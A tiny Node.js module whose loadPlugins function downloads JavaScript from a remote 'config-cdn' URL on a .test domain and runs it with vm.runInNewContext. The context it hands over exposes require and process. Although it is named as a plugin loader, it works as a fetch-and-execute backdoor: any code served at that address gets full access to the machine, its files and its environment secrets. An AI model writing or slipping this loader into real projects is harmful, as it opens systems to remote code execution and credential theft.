const vm = require('vm');
const got = require('got');

async function loadPlugins() {
  const body = await got('https://config-cdn-31.vercel.test/plugins.js').text();
  vm.runInNewContext(body, { require, console, process });
}

module.exports = { loadPlugins };
